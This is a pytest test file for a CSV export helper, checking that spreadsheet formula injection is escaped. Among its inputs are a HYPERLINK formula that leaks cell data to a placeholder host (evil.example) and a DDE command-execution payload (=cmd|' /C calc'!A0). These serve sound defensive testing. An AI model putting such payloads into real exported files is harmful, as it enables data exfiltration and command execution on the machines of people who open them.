"""The shared spreadsheet-export helper (issue #11, item 9): cells that a spreadsheet would run as
formulas are escaped, everything else is written as it is."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from qa_app.web.exports import FORMULA_START, csv_bytes, escape_cell, escape_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+86 138 0000 0000",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_starts_are_escaped(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["您好，很高兴为您服务", "agent 1021", " =1+1", "'=already", "", "a=b", "1-2"]
)
def test_ordinary_text_is_unchanged(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, -0.25, 0, None, True, date(2026, 11, 29)])
def test_numbers_dates_and_none_stay_as_they_are(value):
    assert escape_cell(value) is value


def test_every_formula_start_is_covered():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert escape_row(["=a", 1, "b", None, "@c"]) == ["'=a", 1, "b", None, "'@c"]


def test_csv_bytes_escapes_header_and_cells_and_reads_back():
    data = csv_bytes(
        ["坐席", "=header", "得分", "时间"],
        [
            ['=HYPERLINK("x")', "普通文本, 含逗号", -12.5, datetime(2026, 11, 29, 9, 30, tzinfo=UTC)],
            ["@agent", '引号"内容"', None, date(2026, 11, 30)],
        ],
    )
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["坐席", "'=header", "得分", "时间"]
    assert rows[1] == ['\'=HYPERLINK("x")', "普通文本, 含逗号", "-12.5", "2026-11-29 09:30:00+00:00"]
    assert rows[2] == ["'@agent", '引号"内容"', "", "2026-11-30"]


def test_csv_without_bom():
    assert csv_bytes(["a"], [["+1"]], bom=False) == b"a\r\n'+1\r\n"
